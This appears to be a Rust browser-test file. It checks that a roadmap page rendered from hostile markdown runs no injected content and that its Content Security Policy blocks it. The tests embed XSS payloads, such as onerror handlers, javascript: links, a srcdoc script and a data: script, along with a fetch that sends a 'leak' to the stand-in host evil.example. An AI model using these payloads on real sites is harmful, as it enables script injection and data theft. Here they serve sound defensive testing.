//! A roadmap that attacks its readers, in both kinds of page.

use serde_json::json;

use super::driver::browse;
use super::live::Live;
use super::site::{Site, shown};
use super::tab::Browser;

const HOSTILE: &str = include_str!("hostile.md");

/// What must not be there, wherever it comes from.
const FOREIGN: &str = "[...document.querySelectorAll(`
    iframe, object, embed, base, form, svg [onload], math, video, audio, marquee, main template,
    link:not([rel=icon]), meta[http-equiv=refresh i], main script, main style, main button,
    main [style]:not([data-progress]), [onload], [onerror], [onclick], [onmouseover], [onfocus], [ontoggle], [onchange],
    main [accesskey], main [class*=prose] [class*=prose], main [data-command],
    [href^='javascript:' i], [href^='data:' i]:not([rel=icon]), [href^='vbscript:' i],
    [src^='javascript:' i], [src^='http' i], [formaction], [srcdoc]`)]
    .map(it => it.outerHTML.slice(0, 200))";

/// Names that only this page's own parts may have.
const OURS: &str = "[...document.querySelectorAll('[id]')].map(it => it.id)
    .filter(id => id.includes(':') || id.includes('/'))
    .filter((id, at, all) => all.indexOf(id) !== at)";

async fn assert_harmless(browser: &Browser) {
    assert_eq!(browser.eval(FOREIGN).await, json!([]));
    assert_eq!(browser.eval(OURS).await, json!([]));
    // Everything that can be pressed or hovered is.
    let script = "
        for (const element of document.querySelectorAll('main *')) {
            for (const kind of ['mouseover', 'mouseenter', 'focus', 'toggle', 'error', 'load', 'change']) {
                element.dispatchEvent(new Event(kind, {bubbles: false}));
            }
        }
        document.querySelectorAll('main a').forEach(link => {
            link.addEventListener('click', event => event.preventDefault());
            link.click();
        });";
    browser.run(script).await;
    assert_eq!(browser.eval("typeof window.pwned").await, "undefined");
    assert_eq!(
        browser.eval("typeof document.querySelector").await,
        "function"
    );
    assert_eq!(
        browser
            .eval("document.querySelectorAll('#after').length")
            .await,
        0
    );
    assert_eq!(
        browser
            .eval("document.querySelectorAll('main').length")
            .await,
        1
    );
    assert_eq!(browser.eval(&shown("main")).await, true);
    // Nothing fell out of the list, whatever it closes.
    let tasks = browser
        .number("document.querySelectorAll('main [data-section] [data-task]').length")
        .await;
    assert_eq!(
        tasks,
        tasks_of(HOSTILE),
        "{}",
        browser
            .eval("[...document.querySelectorAll('[data-task]')].map(it => it.dataset.text)")
            .await
    );
}

fn tasks_of(roadmap: &str) -> i64 {
    let is_task = |line: &&str| line.trim_start().starts_with("- [");
    i64::try_from(roadmap.lines().filter(is_task).count()).unwrap()
}

/// The same tools work on it as on any other.
async fn assert_works(browser: &Browser) {
    browser.fill("[data-search]", "constructor").await;
    browser
        .until("document.querySelector('[data-task]').hidden")
        .await;
    let found = browser.seen_tasks().await;
    assert!(found.iter().any(|it| it == "constructor"), "{found:?}");
    assert!(!found.iter().any(|it| it == "toString"), "{found:?}");
}

#[test]
fn a_static_page_runs_nothing_of_it() {
    let site = Site::with(HOSTILE);
    browse(async |browser| {
        for address in [site.file(), site.address()] {
            browser.open_page(&address).await;
            assert_harmless(browser).await;
            assert_works(browser).await;
            browser.assert_quiet(&address).await;
        }
        // Names that objects have by themselves are only names.
        for name in [
            "constructor",
            "__proto__/constructor",
            "__proto__/tostring",
            "__proto__/hasownproperty",
        ] {
            browser.open_page(&site.address()).await;
            browser.tick(name).await;
            browser.open_page(&site.address()).await;
            browser.until_ticked(name, true).await;
        }
        assert_eq!(browser.eval("typeof window.pwned").await, "undefined");
    });
}

#[test]
fn a_live_page_runs_nothing_of_it() {
    let live = Live::with(HOSTILE);
    browse(async |browser| {
        browser.open_page(&live.address()).await;
        assert_harmless(browser).await;
        browser.tick("constructor").await;
        live.until_committed(1).await;
        // The page is exchanged when its text changes.
        live.repo.edit(
            "ROADMAP.md",
            "- [ ] A plain task\n",
            "- [ ] A plain task\n- [ ] Another <img src=x onerror=\"window.pwned='swap'\">\n",
        );
        browser
            .until_is(
                "document.querySelectorAll('main [data-task]').length",
                &json!(tasks_of(HOSTILE) + 1),
            )
            .await;
        assert_eq!(browser.eval(FOREIGN).await, json!([]));
        assert_eq!(browser.eval("typeof window.pwned").await, "undefined");
        assert_works(browser).await;
        let requests = browser.requests().await;
        let is_far = |it: &&String| !it.starts_with(&live.origin());
        assert_eq!(requests.iter().find(is_far), None);
        let complaints = browser.complaints().await;
        assert_eq!(
            complaints
                .iter()
                .find(|it| it.contains("Content Security Policy")),
            None
        );
    });
}

/// The second wall: what would run if the first one had a hole.
async fn assert_policy_holds(browser: &Browser) {
    let script = "
        const done = arguments[arguments.length - 1];
        const put = html => document.body.insertAdjacentHTML('beforeend', html);
        put('<img src=x onerror=\"window.pwned = 1\"><img src=\"https://evil.example/x.png\">');
        put('<iframe srcdoc=\"<script>parent.pwned = 1</script>\"></iframe><a id=go href=\"javascript:window.pwned=1\">go</a>');
        put('<style>main { display: none }</style><link rel=stylesheet href=\"https://evil.example/x.css\">');
        put('<p id=red style=\"color: rgb(1, 2, 3)\">red</p><base href=\"https://evil.example/\">');
        put('<form id=form action=\"https://evil.example/\" target=_blank><input name=a></form>');
        for (const source of [null, 'https://evil.example/x.js', 'data:text/javascript,window.pwned=1']) {
            const script = document.createElement('script');
            if (source) script.src = source; else script.textContent = 'window.pwned = 1';
            document.body.append(script);
        }
        document.querySelector('#go').click();
        document.querySelector('#form').submit();
        // What DevTools run may use eval; what they leave behind may not.
        setTimeout(() => window.eval('window.pwned = 1'));
        const sent = [
            fetch('https://evil.example/?leak', {mode: 'no-cors'}),
            new Promise((fine, refused) => { const it = new Image(); it.onload = fine; it.onerror = refused; it.src = 'https://evil.example/y.png'; }),
        ];
        Promise.allSettled(sent).then(all => setTimeout(() => done(all.map(it => it.status)), 50));";
    let sent = browser.run_async(script).await;
    assert_eq!(sent, json!(["rejected", "rejected"]));
    assert_eq!(browser.eval("typeof window.pwned").await, "undefined");
    assert_eq!(browser.eval(&shown("main")).await, true);
    let colour = "getComputedStyle(document.querySelector('#red')).color";
    assert_ne!(browser.text(colour).await, "rgb(1, 2, 3)");
    let base = browser.text("document.baseURI").await;
    assert!(!base.contains("evil"), "{base}");
    let complaints = browser.complaints().await.join("\n");
    assert!(
        complaints.contains("Content Security Policy"),
        "{complaints}"
    );
}

#[test]
fn the_policy_of_a_static_page_holds_by_itself() {
    let site = Site::with("# A\n\n- [ ] b\n");
    browse(async |browser| {
        for address in [site.file(), site.address()] {
            browser.goto(&address).await;
            assert_policy_holds(browser).await;
        }
    });
}

#[test]
fn the_policy_of_a_live_page_holds_by_itself() {
    let live = Live::with("# A\n\n- [ ] b\n");
    browse(async |browser| {
        browser.goto(&live.address()).await;
        assert_policy_holds(browser).await;
    });
}
